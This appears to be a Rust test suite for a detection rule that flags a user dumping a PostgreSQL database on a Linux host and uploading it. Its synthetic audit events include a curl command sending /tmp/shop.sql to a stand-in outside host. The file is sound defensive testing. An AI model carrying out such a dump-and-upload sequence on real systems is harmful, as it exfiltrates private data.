//! AN0676 (Linux) end to end: auditd and Zeek lines written here in the
//! formats auditd and Zeek produce, replayed through the shipped component.

use dumpwatch_tests::{Audit, Replay, Who, ZeekLog, ms, related_ids, replay, scenario_config, uid};
use proptest::prelude::*;
use serde_json::Value;

const DB01: &str = "db01";
const ALICE: u32 = 1001;
const PG_DUMP: &str = "/usr/lib/postgresql/16/bin/pg_dump";
const BASH: &str = "/usr/bin/bash";
const CURL: &str = "/usr/bin/curl";

/// The ids of the three legs of the standard scenario.
struct Legs {
    dump: String,
    exec: String,
    egress: String,
}

/// alice on db01: `pg_dump shop > /tmp/shop.sql` (the shell child opens
/// the file 2 ms before it execs pg_dump), then curl uploads it out.
fn attack(a: &mut Audit, egress: bool) -> Legs {
    let alice = Who::user(ALICE);
    a.write(59.998, DB01, 5210, 5100, alice, BASH, "/tmp/shop.sql");
    let dump = a.last_id(DB01);
    a.exec(
        60.000,
        DB01,
        5210,
        5100,
        alice,
        PG_DUMP,
        &["pg_dump", "shop"],
    );
    let exec = a.last_id(DB01);
    let mut egress_id = String::new();
    if egress {
        a.exec(
            130.0,
            DB01,
            5230,
            5100,
            alice,
            CURL,
            &["curl", "-T", "/tmp/shop.sql", "https://files.example.net/u"],
        );
        a.connect(130.020, DB01, 5230, 5100, alice, CURL, "203.0.113.50", 443);
        egress_id = a.last_id(DB01);
    }
    Legs {
        dump,
        exec,
        egress: egress_id,
    }
}

fn run(audit: &str) -> Replay {
    replay(&[("audit.log", audit.to_owned())], &scenario_config(""))
}

fn only(r: &Replay) -> Value {
    let latest = r.latest();
    assert_eq!(latest.len(), 1, "findings: {:#?}", r.findings);
    latest.into_values().next().unwrap()
}

fn severity(f: &Value) -> i64 {
    f["severity_id"].as_i64().unwrap()
}

fn legs(f: &Value) -> Vec<String> {
    f["unmapped"]["legs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_owned())
        .collect()
}

fn techniques(f: &Value) -> Vec<String> {
    f["finding_info"]["attacks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            a["sub_technique"]["uid"]
                .as_str()
                .or(a["technique"]["uid"].as_str())
                .unwrap()
                .to_owned()
        })
        .collect()
}

#[test]
fn exec_dump_egress_is_one_high_finding_with_its_evidence() {
    let mut a = Audit::new();
    let ids = attack(&mut a, true);
    let r = run(&a.render());
    assert_eq!(r.summary.total_errors(), 0);
    let f = only(&r);
    assert_eq!(r.creations().values().sum::<usize>(), 1, "created once");
    assert_eq!(f["class_uid"], 2004);
    assert_eq!(f["finding_info"]["analytic"]["uid"], "AN0676");
    assert_eq!(severity(&f), 4, "high: {f:#}");
    assert_eq!(legs(&f), ["exec", "dump", "egress"]);
    assert_eq!(f["device"]["hostname"], DB01);
    assert_eq!(f["unmapped"]["entities"]["host"], DB01);
    assert_eq!(f["unmapped"]["entities"]["user"], "alice");
    let related = related_ids(&f);
    for id in [&ids.dump, &ids.exec, &ids.egress] {
        assert!(related.contains(id), "{id} missing from {related:?}");
    }
    assert_eq!(
        f["start_time"],
        ms(59.998),
        "the redirected open is the first event"
    );
    assert_eq!(f["end_time"], ms(130.020));
    let t = techniques(&f);
    assert!(
        t.contains(&"T1213.006".to_owned()) && t.contains(&"T1048".to_owned()),
        "{t:?}"
    );
    assert_eq!(f["unmapped"]["dedup_key"], uid(&f));
    assert!(!f["unmapped"]["tunables_hash"].as_str().unwrap().is_empty());
    // The egress update came after the creation, under the same uid.
    let activities: Vec<i64> = r
        .findings
        .iter()
        .map(|f| f["activity_id"].as_i64().unwrap())
        .collect();
    assert_eq!(activities[0], 1);
    assert!(r.findings.iter().all(|x| uid(x) == uid(&f)));
}

#[test]
fn exec_and_dump_is_medium() {
    let mut a = Audit::new();
    attack(&mut a, false);
    let f = only(&run(&a.render()));
    assert_eq!(severity(&f), 3);
    assert_eq!(legs(&f), ["exec", "dump"]);
    assert_eq!(f["evidences"].as_array().unwrap().len(), 2);
}

#[test]
fn each_leg_alone_is_not_a_finding() {
    let alice = Who::user(ALICE);
    let mut exec = Audit::new();
    exec.exec(60.0, DB01, 5210, 5100, alice, PG_DUMP, &["pg_dump", "shop"]);
    let mut dump = Audit::new();
    dump.write(60.0, DB01, 5210, 5100, alice, BASH, "/tmp/shop.sql");
    let mut egress = Audit::new();
    egress.connect(60.0, DB01, 5230, 5100, alice, CURL, "203.0.113.50", 443);
    let mut exec_egress = Audit::new();
    exec_egress
        .exec(60.0, DB01, 5210, 5100, alice, PG_DUMP, &["pg_dump", "shop"])
        .connect(70.0, DB01, 5210, 5100, alice, PG_DUMP, "203.0.113.50", 443);
    for (name, a) in [
        ("exec", exec),
        ("dump", dump),
        ("egress", egress),
        ("exec+egress", exec_egress),
    ] {
        let r = run(&a.render());
        assert!(r.findings.is_empty(), "{name}: {:#?}", r.findings);
        assert!(r.summary.total_events() > 0, "{name}: events were read");
    }
}

#[test]
fn a_dump_just_outside_the_window_is_not_a_finding() {
    let alice = Who::user(ALICE);
    let mut a = Audit::new();
    a.exec(60.0, DB01, 5210, 5100, alice, PG_DUMP, &["pg_dump", "shop"])
        .write(
            60.0 + 11.0 * 60.0,
            DB01,
            5300,
            5100,
            alice,
            BASH,
            "/tmp/shop.sql",
        );
    assert!(run(&a.render()).findings.is_empty());
    // And just inside it, it is.
    let mut b = Audit::new();
    b.exec(60.0, DB01, 5210, 5100, alice, PG_DUMP, &["pg_dump", "shop"])
        .write(
            60.0 + 9.0 * 60.0,
            DB01,
            5300,
            5100,
            alice,
            BASH,
            "/tmp/shop.sql",
        );
    assert_eq!(severity(&only(&run(&b.render()))), 3);
}

#[test]
fn egress_from_another_host_does_not_raise_it() {
    let mut a = Audit::new();
    attack(&mut a, false);
    a.connect(
        130.0,
        "db02",
        6230,
        6100,
        Who::user(ALICE),
        CURL,
        "203.0.113.50",
        443,
    );
    let f = only(&run(&a.render()));
    assert_eq!(severity(&f), 3);
    assert_eq!(legs(&f), ["exec", "dump"]);
}

#[test]
fn an_allowed_account_is_not_a_finding() {
    let postgres = Who::daemon(26);
    let mut a = Audit::new();
    a.exec(
        60.0,
        DB01,
        6100,
        1,
        postgres,
        PG_DUMP,
        &["pg_dump", "-Fc", "shop"],
    )
    .write(
        60.5,
        DB01,
        6100,
        1,
        postgres,
        PG_DUMP,
        "/var/backups/shop.dump",
    )
    .connect(70.0, DB01, 6100, 1, postgres, PG_DUMP, "203.0.113.50", 443);
    let r = run(&a.render());
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    // The same as an account the config does not allow is a finding.
    let cfg = scenario_config("[analytics.AN0676.tunables]\nAllowedDBClients = [\"backup\"]\n");
    let r = replay(&[("audit.log", a.render())], &cfg);
    assert_eq!(r.latest().len(), 1);
}

fn order_independent(a: &Audit, baseline: &Replay, order: &[usize]) {
    let r = run(&a.render_order(order));
    assert_eq!(r.latest(), baseline.latest(), "order {order:?}");
    assert!(
        r.creations().values().all(|&n| n == 1),
        "order {order:?}: {:?}",
        r.creations()
    );
}

/// Two users on two hosts, both stealing, plus noise.
fn busy_day() -> Audit {
    let mut a = Audit::new();
    attack(&mut a, true);
    let bob = Who::user(1002);
    a.exec(
        200.0,
        "db02",
        7210,
        7100,
        bob,
        "/usr/bin/mysqldump",
        &["mysqldump", "crm"],
    )
    .write(
        200.5,
        "db02",
        7210,
        7100,
        bob,
        "/usr/bin/mysqldump",
        "/home/bob/crm.sql",
    )
    .exec(205.0, "db02", 7300, 7100, bob, "/usr/bin/ls", &["ls", "-l"])
    .connect(
        260.0,
        "db02",
        7400,
        7100,
        bob,
        "/usr/bin/scp",
        "198.51.100.9",
        22,
    )
    .exec(
        300.0,
        DB01,
        5400,
        5100,
        Who::user(ALICE),
        "/usr/bin/vim",
        &["vim", "notes"],
    );
    a
}

#[test]
fn reversed_and_shuffled_arrival_give_the_same_findings() {
    let a = busy_day();
    let baseline = run(&a.render());
    assert_eq!(baseline.latest().len(), 2, "{:#?}", baseline.findings);
    let n = a.len();
    let reversed: Vec<usize> = (0..n).rev().collect();
    order_independent(&a, &baseline, &reversed);
    // A fixed interleaving: odd events first, then even ones.
    let mut odd_even: Vec<usize> = (0..n).filter(|i| i % 2 == 1).collect();
    odd_even.extend((0..n).filter(|i| i % 2 == 0));
    order_independent(&a, &baseline, &odd_even);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, ..ProptestConfig::default() })]
    #[test]
    fn any_arrival_order_gives_the_same_findings(order in Just((0..busy_day().len()).collect::<Vec<usize>>()).prop_shuffle()) {
        let a = busy_day();
        let baseline = run(&a.render());
        order_independent(&a, &baseline, &order);
    }
}

#[test]
fn duplicated_events_give_no_second_finding() {
    let mut a = Audit::new();
    attack(&mut a, true);
    let baseline = run(&a.render());
    let twice: Vec<usize> = (0..a.len()).flat_map(|i| [i, i]).collect();
    let r = run(&a.render_order(&twice));
    assert_eq!(r.latest(), baseline.latest());
    assert_eq!(r.creations().values().sum::<usize>(), 1);
    let f = only(&r);
    let ids = related_ids(&f);
    let mut unique = ids.clone();
    unique.dedup();
    assert_eq!(ids, unique, "no duplicate evidence");
    // The whole file twice (a re-sent input) changes nothing either.
    let again = format!("{}{}", a.render(), a.render());
    let r = run(&again);
    assert_eq!(r.latest(), baseline.latest());
}

#[test]
fn a_sensor_post_reaches_the_right_host_through_the_inventory() {
    let mut a = Audit::new();
    attack(&mut a, false);
    let mut http = ZeekLog::http();
    // From db01's address: raises db01's finding.
    http.request(
        140.0,
        "CpostDb01",
        "10.0.0.5",
        "198.51.100.7",
        80,
        "POST",
        "/upload",
        48_000_000,
    );
    // From db02's address: unrelated to alice's window on db01.
    http.request(
        141.0,
        "CpostDb02",
        "10.0.0.6",
        "198.51.100.7",
        80,
        "POST",
        "/upload",
        48_000_000,
    );
    let r = replay(
        &[("audit.log", a.render()), ("http.log", http.render())],
        &scenario_config(""),
    );
    let f = only(&r);
    assert_eq!(severity(&f), 4);
    let related = related_ids(&f);
    assert!(related.contains(&"CpostDb01:1".to_owned()), "{related:?}");
    assert!(
        !related.iter().any(|id| id.starts_with("CpostDb02")),
        "{related:?}"
    );
    let egress: Vec<&Value> = f["evidences"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["name"] == "egress")
        .collect();
    assert_eq!(egress[0]["dst_endpoint"]["ip"], "198.51.100.7");
    // Without the inventory the sensor event names no host: no egress.
    let r = replay(
        &[("audit.log", a.render()), ("http.log", http.render())],
        "[inventory.users]\n1001 = \"alice\"\n",
    );
    assert_eq!(severity(&only(&r)), 3);
}

#[test]
fn a_large_sensor_flow_is_egress_and_a_small_one_is_not() {
    let mut a = Audit::new();
    attack(&mut a, false);
    let mut conn = ZeekLog::conn();
    conn.flow(
        150.0,
        "CsmallFlow",
        "10.0.0.5",
        "203.0.113.80",
        443,
        20_000,
        5_000,
    );
    let r = replay(
        &[("audit.log", a.render()), ("conn.log", conn.render())],
        &scenario_config(""),
    );
    assert_eq!(severity(&only(&r)), 3, "20 KB is not an upload");
    conn.flow(
        160.0,
        "CbigFlow",
        "10.0.0.5",
        "203.0.113.80",
        443,
        48_311_522,
        6_214,
    );
    let r = replay(
        &[("audit.log", a.render()), ("conn.log", conn.render())],
        &scenario_config(""),
    );
    let f = only(&r);
    assert_eq!(severity(&f), 4);
    assert!(related_ids(&f).contains(&"CbigFlow".to_owned()));
}

#[test]
fn late_evidence_beyond_the_lateness_updates_the_finding_and_is_counted() {
    let alice = Who::user(ALICE);
    let mut a = Audit::new();
    attack(&mut a, false);
    // Forty minutes of other activity on the host move the watermark on
    // (more events than a reader hands over at once, so the finding is
    // emitted before the late upload is read)…
    for k in 0..600u32 {
        a.exec(
            200.0 + f64::from(k) * 4.0,
            DB01,
            9000 + k,
            1,
            Who::user(1002),
            "/usr/bin/ls",
            &["ls"],
        );
    }
    // …then the upload, which happened two minutes after the dump, arrives.
    a.connect(180.0, DB01, 5230, 5100, alice, CURL, "203.0.113.50", 443);
    let late_id = a.last_id(DB01);
    let cfg = scenario_config("[time]\nreplay_lateness = \"1m\"\n");
    let r = replay(&[("audit.log", a.render())], &cfg);
    let (_, t) = &r.summary.inputs[0];
    assert_eq!(t.late, 1, "the upload is counted as late");
    assert_eq!(
        r.creations().values().sum::<usize>(),
        1,
        "not a second finding"
    );
    let f = only(&r);
    assert_eq!(severity(&f), 4, "the late upload still raised it");
    assert!(related_ids(&f).contains(&late_id));
    let updates = r.findings.iter().filter(|f| f["activity_id"] == 2).count();
    assert!(updates >= 1, "the late evidence came as an update");
}
